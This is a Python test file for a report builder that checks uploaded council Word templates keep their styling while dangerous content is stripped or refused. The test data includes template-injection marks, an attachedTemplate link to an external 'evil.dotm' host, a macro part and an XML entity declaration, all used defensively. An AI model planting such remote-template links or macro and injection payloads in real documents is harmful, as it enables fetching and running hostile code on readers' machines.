"""A council's own template: kept, never run, never fetched, refused with a reason."""

import io

import docx
import pytest
from docx.shared import RGBColor

from systemmap.errors import ReadError
from systemmap.formats.fixed_zip import unzipped, zipped
from systemmap.reports import Order, build
from systemmap.reports.parts.template import check_template
from tests.reports.conftest import DAY, words_of


@pytest.fixture
def template() -> bytes:
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "Sampleshire Council"
    document.sections[0].footer.paragraphs[0].text = "Report template 2026"
    document.add_paragraph("Standard opening {{ 7*7 }} {% for x in y %}")
    document.styles["Heading 1"].font.color.rgb = RGBColor(0x80, 0, 0x80)
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def opened(sampleshire, template):
    data = build(sampleshire, "board_paper", Order(at=DAY, template=template)).data
    return docx.Document(io.BytesIO(data))


def test_its_header_footer_styles_and_text_are_kept(sampleshire, template):
    document = opened(sampleshire, template)
    section = document.sections[0]
    assert section.header.paragraphs[0].text == "Sampleshire Council"
    assert section.footer.paragraphs[0].text == "Report template 2026"
    heading = next(p for p in document.paragraphs if p.text == "The board is asked to")
    assert heading.style.name == "Heading 1"
    assert heading.style.font.color.rgb == RGBColor(0x80, 0, 0x80)


def test_marks_that_look_like_code_stay_text(sampleshire, template):
    first = opened(sampleshire, template).paragraphs[0]
    assert first.text == "Standard opening {{ 7*7 }} {% for x in y %}"


def test_a_template_without_our_styles_still_takes_the_paper(sampleshire):
    document = docx.Document()
    for name in ("Title", "Heading 1", "Heading 2", "Caption"):
        style = document.styles[name].element
        style.getparent().remove(style)
    stream = io.BytesIO()
    document.save(stream)
    heading = next(
        p
        for p in opened(sampleshire, stream.getvalue()).paragraphs
        if p.text == "The board is asked to"
    )
    assert heading.runs[0].bold


def test_a_dotx_is_taken_as_a_document(sampleshire, template):
    parts = unzipped(template)
    types = "[Content_Types].xml"
    parts[types] = parts[types].replace(b"document.main+xml", b"template.main+xml")
    order = Order(at=DAY, template=zipped(parts))
    written = build(sampleshire, "board_paper", order)
    assert "The board is asked to" in words_of(written.data, ".docx")
    assert b"template.main+xml" not in unzipped(written.data)[types]


def test_a_template_of_the_template_is_not_fetched(sampleshire, template):
    parts = unzipped(template)
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom",
        b'<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId99"/><w:zoom',
        1,
    )
    assert b"attachedTemplate" in parts["word/settings.xml"]
    parts["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="https://example.org/evil.dotm" TargetMode="External"/></Relationships>'
    )
    order = Order(at=DAY, template=zipped(parts))
    found = unzipped(build(sampleshire, "board_paper", order).data)
    assert not [
        n
        for n, part in found.items()
        if b"evil.dotm" in part or b"attachedTemplate" in part
    ]


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "not a Word document"),
        (b"not a zip at all", "not a Word document"),
        (b"\xd0\xcf\x11\xe0 old", "old Word file or has a password"),
        (zipped({"a.txt": b"x"}), "not a Word document"),
    ],
    ids=["empty", "text", "old", "other-zip"],
)
def test_what_is_no_word_file_is_refused_with_a_reason(data, reason):
    with pytest.raises(ReadError, match=reason):
        check_template(data)


def test_macros_are_refused(template):
    parts = unzipped(template) | {"word/vbaProject.bin": b"\0"}
    with pytest.raises(ReadError, match="macros, which are never run here"):
        check_template(zipped(parts))


def test_a_document_type_inside_is_refused(template):
    parts = unzipped(template)
    parts["word/styles.xml"] = b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
    with pytest.raises(ReadError):
        check_template(zipped(parts))
